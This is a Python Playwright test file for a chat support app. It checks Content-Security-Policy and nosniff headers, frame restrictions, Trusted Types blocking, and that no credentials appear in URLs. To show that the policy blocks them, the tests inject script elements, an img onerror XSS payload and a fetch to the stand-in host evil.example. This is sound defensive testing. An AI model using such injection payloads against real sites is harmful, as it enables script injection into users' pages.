"""What the pages allow: only their own code, no frame around the console, no credential in an address."""

import pytest
from playwright.async_api import expect

from tests.browser.conftest import Stage
from tests.browser.hostile import foreign

PAGES = ("/", "/widget")

ANSWERS = (
    ("GET", "/", 200),
    ("GET", "/console", 200),
    ("GET", "/widget", 200),
    ("GET", "/widget.js", 200),
    ("GET", "/nowhere", 404),
    ("GET", "/assets/nothing.js", 404),
    ("GET", "/console/index.html", 404),
    ("GET", "/api/v1/conversations", 401),
    ("GET", "/api/v1/conversations/x/transcript", 401),
    ("POST", "/console", 405),
    ("GET", "/socket.io/?EIO=4&transport=polling", 400),
)


async def test_every_answer_forbids_foreign_code_errors_included(stage: Stage) -> None:
    for method, path, status in ANSWERS:
        answer = await stage.served.request(method, path)
        policy = answer.headers.get("Content-Security-Policy", "")
        assert (path, answer.status) == (path, status)
        assert "default-src 'none'" in policy, path
        assert "frame-ancestors" in policy, path
        assert "unsafe" not in policy, path
        assert answer.headers.get("X-Content-Type-Options") == "nosniff", path


@pytest.mark.parametrize("path", PAGES)
async def test_a_script_that_got_in_would_not_run(stage: Stage, path: str) -> None:
    user = await stage.wallet("alex")
    await user.page.goto(stage.served.address + path)
    injected = "document.body.append(Object.assign(document.createElement('script'), {text: 'window.owned = 1'}))"
    await user.page.evaluate(injected)
    await user.page.evaluate(
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.owned = 1\">')"
    )
    await user.page.evaluate("fetch('https://evil.example/').catch(() => null)")
    assert await user.page.evaluate("window.owned") is None
    assert len(await foreign(user)) == 2
    found = " ".join(stage.guard.unforgiven())
    assert "script-src" in found
    assert "connect-src https://evil.example/" in found
    stage.guard.forgive("policy violated", "Content Security Policy", "Failed to load resource")


async def test_no_text_can_become_markup_in_the_console(stage: Stage) -> None:
    stage.guard.forgive("policy violated", "Content Security Policy", "requires 'Trusted", "TrustedTypePolicy")
    agent = await stage.agent("ann", locale="en")
    for attempt in (
        "document.body.insertAdjacentHTML('beforeend', '<img src=x>')",
        "document.body.innerHTML = '<b>bold</b>'",
        "document.body.append(Object.assign(document.createElement('script'), {text: 'window.owned = 1'}))",
        "setTimeout('window.owned = 1')",
        "new DOMParser().parseFromString('<p>', 'text/html')",
        "trustedTypes.createPolicy('mine', {createHTML: text => text})",
    ):
        assert await agent.page.evaluate(f"(() => {{ try {{ {attempt} }} catch (error) {{ return error.name }} }})()")
    assert await agent.page.evaluate("fetch('https://evil.example/').catch(error => error.name)") == "TypeError"
    assert await agent.page.evaluate("window.owned") is None
    assert await foreign(agent) == []
    await expect(agent.at("sign-out")).to_be_visible()


@pytest.mark.parametrize(("path", "is_shown"), [("/console", False), ("/", False), ("/widget", True)])
async def test_only_the_widget_can_be_put_into_a_frame(stage: Stage, path: str, is_shown: bool) -> None:
    stage.guard.forgive("frame-ancestors")
    user = await stage.wallet("alex")
    async with user.page.expect_event("framenavigated", lambda frame: frame.name == "around"):
        await user.page.evaluate(
            "src => document.body.append(Object.assign(document.createElement('iframe'), {src, name: 'around'}))", path
        )
    await expect(user.page.frame_locator("iframe[name=around]").locator("#app")).to_have_count(int(is_shown))


async def test_no_credential_ever_stands_in_an_address(stage: Stage) -> None:
    agent = await stage.agent("ann", locale="en")
    await agent.go("available")
    visitor = await stage.wallet("", locale="en")
    await visitor.call_support()
    await visitor.ask_for_a_person()
    await visitor.is_in("active")
    await agent.take()
    await visitor.say("hello")
    await agent.hears("hello")
    await agent.show_details()
    async with agent.page.expect_download() as download:
        await agent.at("transcript-html").click()
    assert (await download.value).suggested_filename.endswith(".html")
    kept = await agent.page.evaluate("Object.values(sessionStorage).join()")
    device = await visitor.page.evaluate("Object.entries(localStorage).filter(([name]) => name.endsWith('|key'))")
    secrets = [part for part in kept.split('"') if len(part) > 30] + [value for _, value in device]
    assert len(secrets) >= 3
    stage.guard.urls += [page.url for face in (agent, visitor) for page in face.context.pages]
    assert not [url for url in stage.guard.urls for secret in secrets if secret in url]
    assert any("/socket.io/" in url for url in stage.guard.urls)
